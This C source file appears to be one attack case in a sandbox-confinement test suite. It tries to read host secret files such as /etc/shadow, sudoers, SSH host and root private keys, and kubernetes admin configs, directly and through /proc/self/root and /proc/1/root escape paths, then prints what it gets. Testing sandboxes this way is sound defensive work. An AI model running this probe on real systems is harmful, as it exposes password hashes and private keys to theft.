/* host_etc: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F01: host system secrets. A plugin that reaches the host's /etc or /root can read password hashes,
 * sudo rules, ssh host keys and root's files. Every path is tried directly, through /proc/self/root and
 * /proc/1/root, and the canary file last. Whatever is read is printed, so the host finds any token. */
static const char *paths[] = {
    "/etc/shadow", "/etc/shadow-", "/etc/gshadow", "/etc/gshadow-", "/etc/sudoers", "/etc/security/opasswd",
    "/etc/passwd", "/etc/group", "/etc/master.passwd", "/etc/ssh/ssh_host_rsa_key", "/etc/ssh/ssh_host_ecdsa_key",
    "/etc/ssh/ssh_host_ed25519_key", "/etc/ssh/sshd_config", "/etc/ssl/private/ssl-cert-snakeoil.key",
    "/etc/krb5.keytab", "/etc/machine-id", "/etc/hostname", "/etc/hosts", "/etc/fstab", "/etc/crontab",
    "/etc/environment", "/etc/profile", "/etc/docker/daemon.json", "/etc/containerd/config.toml",
    "/etc/kubernetes/admin.conf", "/etc/kubernetes/kubelet.conf", "/etc/NetworkManager/system-connections",
    "/etc/wpa_supplicant/wpa_supplicant.conf", "/etc/mysql/debian.cnf", "/etc/libvirt/qemu.conf",
    "/root/.bash_history", "/root/.profile", "/root/.bashrc", "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519",
    "/root/.ssh/authorized_keys", "/var/spool/cron/crontabs/root", "/var/log/auth.log", "/var/log/secure",
    "/var/log/syslog", "/var/lib/sss/db/cache.ldb", "/boot/grub/grub.cfg",
};
static const char *dirs[] = {"/etc", "/etc/sudoers.d", "/root", "/root/.ssh", "/etc/ssh", "/home", "/var/log",
                             "/etc/ssl/private"};

static void list_dir(const char *d)
{
    DIR *dp = opendir(d);
    if (!dp) { printf("opendir %s: %s\n", d, strerror(errno)); return; }
    printf("LIST %s:", d);
    struct dirent *e; int n = 0;
    while ((e = readdir(dp)) && n < 200) { printf(" %s", e->d_name); n++; }
    printf("\n");
    closedir(dp);
}

int main(int argc, char **argv)
{
    const char *canary = argc > 1 ? argv[1] : "/nonexistent";
    if (argc > 2) NONCE = argv[2];
    static const char *pfx[] = {"", "/proc/self/root", "/proc/1/root", "/proc/thread-self/root", "//", "/./"};
    int got_shadow = 0;
    for (unsigned p = 0; p < sizeof pfx / sizeof *pfx; p++) {
        for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
            char buf[512];
            snprintf(buf, sizeof buf, "%s%s", pfx[p], paths[i]);
            long n = dump_path(buf, p == 0 ? 600 : 120);
            if (n > 0 && (strstr(paths[i], "shadow") || strstr(paths[i], "sudoers") || strstr(paths[i], "_key") ||
                          strstr(paths[i], "/root/")))
                got_shadow = 1;
        }
        char c[600];
        snprintf(c, sizeof c, "%s%s", pfx[p], canary);
        dump_path(c, 400);
    }
    for (unsigned i = 0; i < sizeof dirs / sizeof *dirs; i++) list_dir(dirs[i]);
    /* stat leaks existence even when open is denied */
    struct stat st;
    for (unsigned i = 0; i < 6; i++)
        printf("stat %s: %s\n", paths[i], stat(paths[i], &st) == 0 ? "exists" : strerror(errno));
    if (got_shadow) report(1, "read-host-secret-files");
    else report(0, "read-host-secret-files");
    return 0;
}
